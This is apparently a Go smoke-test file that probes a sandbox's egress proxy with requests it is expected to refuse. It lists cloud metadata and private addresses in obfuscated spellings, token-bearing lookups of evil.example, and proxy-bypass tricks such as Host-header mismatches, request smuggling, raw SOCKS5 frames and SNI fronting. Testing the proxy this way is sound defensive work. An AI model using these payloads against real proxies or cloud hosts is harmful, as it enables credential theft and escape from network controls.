package smoke

import (
	"crypto/tls"
	"fmt"
	"net"
	"strings"
)

func doorEntries() []Entry {
	open := []string{"open-door"}
	return []Entry{
		doorway{
			Entry: Entry{
				ID: "E1-allowed", Quick: true, Weak: open,
				Title: "a step with a network reaches what is allowed, and not another host",
			},
			knocks: []knock{
				get("other-host", "other.quavon.example"), tunnel("other-host-tls", "other.quavon.example:443"),
				get("no-dot", "allowedXquavon.example"),
			},
		}.entry(),
		doorway{
			Entry: Entry{
				ID: "E2-door", Quick: true, Weak: open,
				Title: "no metadata service and no private address is reached through the door",
			},
			knocks: metadataKnocks(),
		}.entry(),
		doorway{
			Entry: Entry{ID: "E7-door", Title: "no name is looked up through the door that isn't allowed", Weak: open},
			knocks: []knock{
				get("name-plain", "TOKEN.evil.example"), tunnel("name-tunnel", "TOKEN.evil.example:443"),
				tunnel("name-dot", "TOKEN.evil.example.:443"),
				tunnel("name-below", "TOKEN."+allowedHost+":443"), socksName("name-socks", "TOKEN.evil.example"),
			},
		}.entry(),
		doorway{
			Entry:  Entry{ID: "E8-bypass", Title: "no trick of a request gets past the proxy", Weak: open},
			knocks: tricks(),
		}.entry(),
	}
}

// literals are addresses as a client may spell them.
var literals = []string{
	"169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "127.0.0.1", "[::1]", "10.1.2.3", "0xa9fea9fe", "2852039166",
	"0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]",
}

func metadataKnocks() []knock {
	var list []knock
	for i, a := range literals {
		list = append(list, get(fmt.Sprintf("literal-%d", i), a), tunnel(fmt.Sprintf("literal-tunnel-%d", i), a+":443"))
	}
	for name := range forbidden {
		label, _, _ := strings.Cut(string(name), ".")
		list = append(list, get("named-"+label, string(name)))
	}
	return list
}

// tricks are requests that two readers may read in two ways, or that say one thing and
// mean another.
func tricks() []knock {
	post := "POST http://" + allowedHost + "/TOKEN HTTP/1.1\r\nHost: " + allowedHost + "\r\n"
	line := func(sub, first string, rest ...string) knock {
		return raw(sub, first+"\r\n"+strings.Join(append(rest, ""), "\r\n")+"\r\n", "GET /TOKEN HTTP/1.1\r\n\r\n")
	}
	host := "Host: " + allowedHost
	return []knock{
		tunnel("port-ssh", allowedHost+":22"), tunnel("port-none", allowedHost), tunnel("port-sign", allowedHost+":+443"),
		tunnel("user", allowedHost+"@evil.example:443"), tunnel("dots", allowedHost+"..:443"),
		tunnel("nul", allowedHost+"\x00.evil.example:443"),
		tunnel("wide-dot", "allowed\uff0equavon.example:443"),
		line("host-differs", "GET http://"+allowedHost+"/TOKEN HTTP/1.1", "Host: evil.example"),
		line("connect-host-differs", "CONNECT "+allowedHost+":443 HTTP/1.1", "Host: evil.example:443"),
		line("no-host", "GET http://"+allowedHost+"/TOKEN HTTP/1.1"),
		line("two-hosts", "GET http://"+allowedHost+"/TOKEN HTTP/1.1", host, "Host: evil.example"),
		line("origin-form", "GET /TOKEN HTTP/1.1", host),
		line("https", "GET https://"+allowedHost+"/TOKEN HTTP/1.1", host),
		line("user-url", "GET http://"+allowedHost+"@evil.example/TOKEN HTTP/1.1", host),
		line("backslash", `GET http://evil.example\@`+allowedHost+"/TOKEN HTTP/1.1", host),
		line("http2", "PRI * HTTP/2.0"),
		raw("te-and-cl", post+"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n", ""),
		raw("two-cl", post+"Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcde", ""),
		raw("bad-te", post+"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", ""),
		raw("bare-lf", "GET http://"+allowedHost+"/TOKEN HTTP/1.1\n"+host+"\n\n", ""),
		raw("socks-address", "\x05\x01\x00\x05\x01\x00\x01\x0a\x01\x02\x03\x00\x50", "TOKEN"), socksName("socks-name", "evil.example"),
		raw("not-tls", "CONNECT "+allowedHost+":443 HTTP/1.1\r\n"+host+":443\r\n\r\n", "SSH-2.0-TOKEN\r\n"),
		{"fronting", func(token string) (string, string) {
			return "CONNECT " + allowedHost + ":443 HTTP/1.1\r\n" + host + ":443\r\n\r\n", clientHello(token + ".evil.example")
		}},
	}
}

// socksName is a whole exchange of SOCKS5, sent at once.
func socksName(sub, name string) knock {
	return knock{sub, func(token string) (string, string) {
		name := strings.ReplaceAll(name, "TOKEN", token)
		return "\x05\x01\x00\x05\x01\x00\x03" + string(rune(len(name))) + name + "\x01\xbb", token
	}}
}

// clientHello is how a client begins TLS with a server of that name.
func clientHello(name string) string {
	here, there := net.Pipe()
	go func() {
		_ = tls.Client(here, &tls.Config{ServerName: name, MinVersion: tls.VersionTLS12}).Handshake() // it never ends
		here.Close()
	}()
	buf := make([]byte, 16<<10)
	n, _ := there.Read(buf)
	there.Close()
	return string(buf[:n])
}
